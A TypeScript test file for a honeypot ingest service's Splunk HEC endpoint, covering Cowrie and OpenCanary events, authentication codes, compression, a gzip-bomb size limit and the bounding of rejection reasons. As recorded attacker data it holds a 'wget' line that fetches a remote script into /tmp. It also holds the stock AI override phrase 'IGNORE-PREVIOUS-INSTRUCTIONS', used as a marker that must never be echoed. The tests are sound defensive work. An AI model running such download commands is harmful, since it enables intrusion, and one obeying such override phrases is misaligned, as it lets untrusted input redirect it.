import { afterAll, beforeAll, describe, expect, test } from "bun:test"
import { join } from "node:path"
import { SqlClient } from "@effect/sql"
import { Effect } from "effect"
import { type TestDatabase, testDatabase } from "../support/db.ts"
import { createSensor, createTenant, get } from "../support/fixtures.ts"
import { recordedBody, recordedRequest, sendRaw } from "../support/rawHttp.ts"
import { type RunningServer, shutdown, startServer } from "../support/server.ts"

/**
 * D41 (a): the Splunk HEC protocol on the ingest listener, with the bytes real senders put on the wire:
 * test/fixtures/hec/cowrie-output-splunk (Cowrie's own output_splunk plugin, one connection per event) and
 * test/fixtures/hec/batches (concatenated and array batches). Stored events are read back through the read API.
 */

const FIXTURES = join(import.meta.dir, "..", "fixtures", "hec")
const COWRIE = join(FIXTURES, "cowrie-output-splunk")
const BATCHES = join(FIXTURES, "batches")
const COWRIE_FILES = ["01", "02", "03", "04", "05", "06", "07"].map((n) => join(COWRIE, `${n}.http`))

let server: RunningServer
let db: TestDatabase

beforeAll(async () => {
  server = await startServer()
  db = testDatabase(server.env)
})

afterAll(() => shutdown(server, db))

const tenantWithSensor = async (name: string) => {
  const tenant = await createTenant(db, name)
  const sensor = await createSensor(db, tenant.orgId, `${name}-sensor`)
  return { key: tenant.key, token: sensor.token, sensorId: sensor.id }
}

// biome-ignore lint/suspicious/noExplicitAny: events as the API answers them
const eventsOf = async (key: string): Promise<Array<any>> => {
  const res = await get(server.url, "/v1/events?limit=100", key)
  expect(res.status).toBe(200)
  return res.body.data
}

const post = (
  path: string,
  token: string | undefined,
  body: string | Uint8Array,
  headers: Record<string, string> = {},
) =>
  fetch(`${server.ingestUrl}${path}`, {
    method: "POST",
    headers: {
      "content-type": "application/json",
      ...(token === undefined ? {} : { authorization: `Splunk ${token}` }),
      ...headers,
    },
    body,
  })

const hec = async (response: Response) => ({
  status: response.status,
  contentType: response.headers.get("content-type"),
  // biome-ignore lint/suspicious/noExplicitAny: HEC answer
  body: (await response.json()) as any,
})

const nowIso = (offsetMs = 0) => new Date(Date.now() + offsetMs).toISOString()
const nativeEvent = (id: string, overrides: Record<string, unknown> = {}) => ({
  sensorEventId: id,
  time: nowIso(-60_000),
  sourceIp: "198.51.100.23",
  sourcePort: 50123,
  type: "ssh.login_attempt",
  attackerInput: { username: "root", password: "toor" },
  ...overrides,
})

describe("HEC: Cowrie's output_splunk", () => {
  test("each recorded request, byte for byte on its own connection and all at once, answers HEC's Success; the session reads back through the API; a resend stores nothing twice", async () => {
    const t = await tenantWithSensor("hec-cowrie")
    const send = () =>
      Promise.all(COWRIE_FILES.map((file) => sendRaw(server.ingestUrl, recordedRequest(file, t.token))))
    for (const response of await send()) {
      expect(response.status).toBe(200)
      expect(response.headers["content-type"]).toBe("application/json; charset=utf-8")
      expect(JSON.parse(response.body)).toEqual({ text: "Success", code: 0 })
    }
    const events = await eventsOf(t.key)
    expect(events.every((e) => e.sourceIp === "203.0.113.45")).toBe(true)
    expect(events.map((e) => e.type).sort()).toEqual([
      "ssh.command",
      "ssh.command",
      "ssh.login_attempt",
      "ssh.login_success",
      "ssh.session",
    ])
    // The event's own timestamp (Cowrie's `timestamp`), not the time of arrival.
    const body = JSON.parse(recordedBody(COWRIE_FILES[3] as string).toString("utf8"))
    const success = events.find((e) => e.type === "ssh.login_success")
    expect(success.time).toBe(new Date(body.event.timestamp).toISOString())
    expect(success.attackerInput.username).toBe("root")
    // D19: Cowrie's \u-escaped password is masked, never stored in clear.
    expect(JSON.stringify(events)).not.toContain("Pässwörd")
    expect(success.attackerInput.password.length).toBe([..."Pässwörd🔑"].length)
    const commands = events.filter((e) => e.type === "ssh.command").map((e) => e.attackerInput.command)
    expect(commands.sort()).toEqual(['uname -a; echo "héllo"', "wget http://198.51.100.7/x.sh -O /tmp/x.sh"])

    for (const response of await send()) expect(JSON.parse(response.body)).toEqual({ text: "Success", code: 0 })
    expect((await eventsOf(t.key)).length).toBe(5)
  })
})

describe("HEC: batches", () => {
  test("concatenated without whitespace (Vector), with newlines and a JSON-text event, and a JSON array: each is one batch; Cowrie and OpenCanary events are routed by shape; a resend stores nothing twice", async () => {
    const t = await tenantWithSensor("hec-batches")
    const files = ["vector-concatenated", "newline-concatenated", "array"].map((n) => join(BATCHES, `${n}.http`))
    for (const file of files) {
      const response = await sendRaw(server.ingestUrl, recordedRequest(file, t.token))
      expect({ file, status: response.status, body: JSON.parse(response.body) }).toEqual({
        file,
        status: 200,
        body: { text: "Success", code: 0 },
      })
    }
    const events = await eventsOf(t.key)
    // Three sessions (connect, failed login, command; the closed line only adds the duration) and one OpenCanary
    // FTP login in the Vector batch.
    expect(
      events
        .filter((e) => e.sourceIp === "203.0.113.45")
        .map((e) => e.type)
        .sort(),
    ).toEqual(["ssh.command", "ssh.login_attempt", "ssh.session"].flatMap((type) => [type, type, type]).sort())
    const ftp = events.filter((e) => e.sourceIp === "203.0.113.62")
    expect(ftp.map((e) => [e.type, e.attackerInput.username])).toEqual([["ftp.login_attempt", "anonymous"]])
    expect(events.length).toBe(10)

    for (const file of files) {
      expect((await sendRaw(server.ingestUrl, recordedRequest(file, t.token))).status).toBe(200)
    }
    expect((await eventsOf(t.key)).length).toBe(10)
  })

  test("HEC's time is used only when the event has none of its own", async () => {
    const t = await tenantWithSensor("hec-time")
    const hecTime = Math.floor(Date.now() / 1000) - 120
    const own = nowIso(-30_000)
    const { time: _omit, ...withoutTime } = nativeEvent("no-own-time")
    const body = `${JSON.stringify({ time: hecTime, event: withoutTime })}${JSON.stringify({ time: hecTime, event: nativeEvent("own-time", { time: own }) })}`
    expect(await hec(await post("/services/collector/event", t.token, body))).toMatchObject({ status: 200 })
    const events = await eventsOf(t.key)
    const byTime = events.map((e) => e.time).sort()
    expect(byTime).toEqual([new Date(hecTime * 1000).toISOString(), own].sort())
  })
})

describe("HEC: answers", () => {
  test("401 code 2 without a token, 401 code 3 for another scheme, 403 code 4 for an unknown or revoked token; errors are HEC JSON, not problem documents", async () => {
    const t = await tenantWithSensor("hec-auth")
    const event = JSON.stringify({ event: nativeEvent("auth-1") })
    const none = await hec(await post("/services/collector/event", undefined, event))
    expect(none).toEqual({
      status: 401,
      contentType: "application/json; charset=utf-8",
      body: { text: "Token is required", code: 2 },
    })
    const basic = await hec(await post("/services/collector/event", undefined, event, { authorization: "Basic eDp5" }))
    expect(basic).toMatchObject({ status: 401, body: { text: "Invalid authorization", code: 3 } })
    const unknown = await hec(await post("/services/collector/event", "dst_sen_00000000000000000000000000_nope", event))
    expect(unknown).toMatchObject({ status: 403, body: { text: "Invalid token", code: 4 } })
    const other = await hec(await post("/services/collector/event", "6A0EA6C6-8006-4E39-FC44-C35FF6E561A8", event))
    expect(other).toMatchObject({ status: 403, body: { text: "Invalid token", code: 4 } })

    const revoked = await tenantWithSensor("hec-revoked")
    await db.run(
      Effect.flatMap(
        SqlClient.SqlClient,
        (sql) => sql`update sensors set revoked_at = now() where id = ${revoked.sensorId}`,
      ),
    )
    const refused = await hec(await post("/services/collector/event", revoked.token, event))
    expect(refused).toMatchObject({ status: 403, body: { text: "Invalid token", code: 4 } })
    // Bearer works as well as Splunk.
    const bearer = await hec(
      await post("/services/collector/event", undefined, event, { authorization: `Bearer ${t.token}` }),
    )
    expect(bearer).toEqual({
      status: 200,
      contentType: "application/json; charset=utf-8",
      body: { text: "Success", code: 0 },
    })
  })

  test("a HEC 401 names Splunk's scheme in WWW-Authenticate, not the API's Bearer realm", async () => {
    const event = JSON.stringify({ event: nativeEvent("auth-scheme") })
    for (const headers of [{}, { authorization: "Basic eDp5" }, { authorization: "  " }]) {
      const res = await post("/services/collector/event", undefined, event, headers)
      expect(res.status).toBe(401)
      expect(res.headers.get("www-authenticate")).toBe("Splunk")
      await res.body?.cancel()
    }
  })

  test("a token in the URL (?token=) is refused, even a valid one, and nothing is stored", async () => {
    const t = await tenantWithSensor("hec-query")
    const event = JSON.stringify({ event: nativeEvent("query-1") })
    for (const path of [
      `/services/collector/event?token=${t.token}`,
      `/services/collector?channel=x&TOKEN=${t.token}`,
    ]) {
      const res = await hec(await post(path, undefined, event))
      expect(res).toMatchObject({ status: 400, body: { text: "Query string authorization is not enabled", code: 16 } })
      const withHeader = await hec(await post(path, t.token, event))
      expect(withHeader.status).toBe(400)
    }
    expect(await eventsOf(t.key)).toEqual([])
  })

  test("400 code 5 for no data; code 12 / 13 for a missing or blank event; code 6 with invalid-event-number for what is not an event", async () => {
    const t = await tenantWithSensor("hec-format")
    const ok = JSON.stringify({ event: nativeEvent("format-ok") })
    const cases: Array<[string, number, number, number | undefined]> = [
      ["", 400, 5, undefined],
      ["  \n", 400, 5, undefined],
      ["[]", 400, 5, undefined],
      [`${ok}{"time": 1}`, 400, 12, 1],
      [`${ok}{"event": ""}`, 400, 13, 1],
      [`${ok}{"event": null}`, 400, 13, 1],
      [`${ok}{"event": `, 400, 6, 1],
      [`${ok} hello`, 400, 6, 1],
      [`${ok}{"event": "plain text"}`, 400, 6, 1],
      [`${ok}{"event": 42}`, 400, 6, 1],
      [`[${ok}, 7]`, 400, 6, 1],
      [`${ok}{"event": {"sensorEventId": "x"}, "time": "yesterday"}`, 400, 6, 1],
    ]
    for (const [body, status, code, index] of cases) {
      const res = await hec(await post("/services/collector/event", t.token, body))
      expect({
        body,
        status: res.status,
        contentType: res.contentType,
        code: res.body.code,
        index: res.body["invalid-event-number"],
      }).toEqual({
        body,
        status,
        contentType: "application/json; charset=utf-8",
        code,
        index,
      })
    }
    // A request is taken whole or not at all: the valid first event of each was not stored.
    expect(await eventsOf(t.key)).toEqual([])
  })

  test("an event the mapping or validation rejects does not reject the batch: the others are stored, the answer is Success, the rejected one is counted in the log line and metrics", async () => {
    const t = await tenantWithSensor("hec-reject")
    const first = nativeEvent("reject-1")
    const ahead = nativeEvent("reject-2", { time: nowIso(3_600_000), sourceIp: "198.51.100.24" })
    const noSession = { eventid: "cowrie.login.failed", src_ip: "198.51.100.25", timestamp: nowIso(-1000) }
    const metric = async (sample: string) => {
      const text = await (await fetch(`${server.opsUrl}/metrics`)).text()
      const line = text.split("\n").find((l) => l.startsWith(`${sample} `))
      return line === undefined ? 0 : Number(line.slice(sample.length + 1))
    }
    const rejectedBefore = await metric('ingest_events_total{route="hec",outcome="rejected"}')
    const logsBefore = server.logs.length
    const batch = [first, ahead, noSession].map((event) => JSON.stringify({ event })).join("\n")
    const res = await hec(await post("/services/collector/event", t.token, batch))
    expect(res).toEqual({
      status: 200,
      contentType: "application/json; charset=utf-8",
      body: { text: "Success", code: 0, rejected: 2, reason: expect.stringMatching(/^time is \d+ seconds ahead/) },
    })
    expect((await eventsOf(t.key)).map((e) => e.sourceIp)).toEqual(["198.51.100.23"])
    await Bun.sleep(100)
    const line = server.logs
      .slice(logsBefore)
      .filter((l) => l.includes('"ingest request"'))
      .map((l) => JSON.parse(l))
      .find((e) => e.message === "ingest request" && e.annotations?.route === "hec")
    expect(line?.annotations).toMatchObject({ status: 200, events: { accepted: 1, rejected: 2 } })
    expect(await metric('ingest_events_total{route="hec",outcome="rejected"}')).toBe(rejectedBefore + 2)

    // After fixing the clock, the resend stores the fixed event once and the first one not again.
    const fixed = [first, { ...ahead, time: nowIso(-1000) }].map((event) => JSON.stringify({ event })).join("\n")
    for (let i = 0; i < 2; i++) {
      expect((await hec(await post("/services/collector/event", t.token, fixed))).body).toEqual({
        text: "Success",
        code: 0,
      })
    }
    expect((await eventsOf(t.key)).map((e) => e.sourceIp).sort()).toEqual(["198.51.100.23", "198.51.100.24"])
  })

  test("when every event is rejected, nothing is stored and the answer is 400 code 6 with the first rejected event's number and the skew in seconds", async () => {
    const t = await tenantWithSensor("hec-all-rejected")
    const noSession = { eventid: "cowrie.login.failed", src_ip: "198.51.100.25", timestamp: nowIso(-1000) }
    const ahead = nativeEvent("all-rejected-1", { time: nowIso(3_600_000) })
    const batch = [ahead, noSession].map((event) => JSON.stringify({ event })).join("\n")
    const res = await hec(await post("/services/collector/event", t.token, batch))
    expect(res.status).toBe(400)
    expect(res.body).toEqual({
      text: "Invalid data format",
      code: 6,
      "invalid-event-number": 0,
      reason: expect.stringMatching(/^time is 3[56]\d\d seconds ahead of the server clock \(at most 300 allowed\)/),
    })
    expect(await eventsOf(t.key)).toEqual([])
  })

  test("the reason of a rejected event is bounded and carries none of the sender's text", async () => {
    const t = await tenantWithSensor("hec-reason")
    const marker = "IGNORE-PREVIOUS-INSTRUCTIONS"
    const good = nativeEvent("reason-ok")
    const cases = [
      { eventid: `cowrie.${marker} maps to`, session: "s1", src_ip: "198.51.100.25", timestamp: nowIso(-1000) },
      { eventid: "cowrie.login.failed", session: marker, src_ip: marker, timestamp: nowIso(-1000) },
      { logtype: 4002, src_host: marker.repeat(20), utc_time: "2026-01-01 00:00:00.000000", logdata: {} },
      nativeEvent("reason-2", { sourceIp: marker.repeat(50) }),
      nativeEvent("reason-3", { type: marker }),
    ]
    for (const bad of cases) {
      const batch = [bad, good].map((event) => JSON.stringify({ event })).join("\n")
      const res = await hec(await post("/services/collector/event", t.token, batch))
      expect(res).toMatchObject({ status: 200, body: { text: "Success", code: 0, rejected: 1 } })
      expect(typeof res.body.reason).toBe("string")
      expect(res.body.reason.length).toBeGreaterThan(5)
      expect(res.body.reason.length).toBeLessThanOrEqual(200)
      expect(res.body.reason).not.toContain("IGNORE")
    }
  })

  test("gzip and deflate bodies (the OpenTelemetry Collector gzips by default) are inflated; past 1 MiB inflated is 413 however small the body; a body that does not inflate or another encoding is code 6", async () => {
    const t = await tenantWithSensor("hec-gzip")
    const body = (id: string, ip: string) => JSON.stringify({ event: nativeEvent(id, { sourceIp: ip }) })
    const gz = await hec(
      await post("/services/collector/event", t.token, Bun.gzipSync(body("gz-1", "198.51.100.31")), {
        "content-encoding": "gzip",
      }),
    )
    expect(gz).toMatchObject({ status: 200, body: { text: "Success", code: 0 } })
    const zlib = await hec(
      await post("/services/collector/event", t.token, Bun.deflateSync(body("gz-2", "198.51.100.32")), {
        "content-encoding": "deflate",
      }),
    )
    expect(zlib).toMatchObject({ status: 200, body: { text: "Success", code: 0 } })
    // HTTP's deflate is the zlib format (Vector's "zlib"); raw DEFLATE under that name is taken too.
    const { deflateSync } = await import("node:zlib")
    const zlibFormat = await hec(
      await post("/services/collector/event", t.token, deflateSync(body("gz-5", "198.51.100.35")), {
        "content-encoding": "deflate",
      }),
    )
    expect(zlibFormat).toMatchObject({ status: 200, body: { text: "Success", code: 0 } })
    expect((await eventsOf(t.key)).map((e) => e.sourceIp).sort()).toEqual([
      "198.51.100.31",
      "198.51.100.32",
      "198.51.100.35",
    ])

    // About 2 KiB of gzip that inflates to 8 MiB.
    const bomb = Bun.gzipSync(new Uint8Array(8 * 1024 * 1024).fill(0x20))
    expect(bomb.byteLength).toBeLessThan(64 * 1024)
    const bombed = await hec(await post("/services/collector/event", t.token, bomb, { "content-encoding": "gzip" }))
    expect(bombed).toMatchObject({ status: 413, body: { code: 413 } })
    const notGzip = await hec(
      await post("/services/collector/event", t.token, body("gz-3", "198.51.100.33"), { "content-encoding": "gzip" }),
    )
    expect(notGzip).toMatchObject({ status: 400, body: { code: 6 } })
    const brotli = await hec(
      await post("/services/collector/event", t.token, body("gz-4", "198.51.100.34"), { "content-encoding": "br" }),
    )
    expect(brotli).toMatchObject({ status: 400, body: { code: 6 } })
    expect((await eventsOf(t.key)).length).toBe(3)
  })

  test("over 1 MiB (declared or streamed) is 413; a body that is not UTF-8 is code 6 and nothing is stored", async () => {
    const t = await tenantWithSensor("hec-limits")
    const big = JSON.stringify({ event: nativeEvent("big", { attackerInput: { command: "x".repeat(1024 * 1024) } }) })
    const declared = await post("/services/collector/event", t.token, big)
    expect(declared.status).toBe(413)
    expect(await declared.json()).toMatchObject({ code: 413 })
    const streamed = await fetch(`${server.ingestUrl}/services/collector/event`, {
      method: "POST",
      headers: { authorization: `Splunk ${t.token}` },
      body: new ReadableStream({
        start(controller) {
          controller.enqueue(new TextEncoder().encode(big))
          controller.close()
        },
      }),
    })
    expect(streamed.status).toBe(413)
    const ok = new TextEncoder().encode(
      JSON.stringify({ event: nativeEvent("utf8", { attackerInput: { command: "ab" } }) }),
    )
    const bad = new Uint8Array(ok)
    bad[ok.indexOf(0x61)] = 0xff
    const notUtf8 = await hec(await post("/services/collector/event", t.token, bad))
    expect(notUtf8).toMatchObject({ status: 400, body: { code: 6 } })
    expect(await eventsOf(t.key)).toEqual([])
  })

  test("GET /services/collector/health answers HEC is healthy (code 17); unknown HEC paths answer in HEC's shape", async () => {
    const health = await fetch(`${server.ingestUrl}/services/collector/health`)
    expect(health.status).toBe(200)
    expect(await health.json()).toEqual({ text: "HEC is healthy", code: 17 })
    const raw = await fetch(`${server.ingestUrl}/services/collector/raw`, { method: "POST", body: "x" })
    expect(raw.status).toBe(404)
    expect(await raw.json()).toMatchObject({ code: 404 })
    const wrongMethod = await fetch(`${server.ingestUrl}/services/collector/event`)
    expect(wrongMethod.status).toBe(405)
  })
})
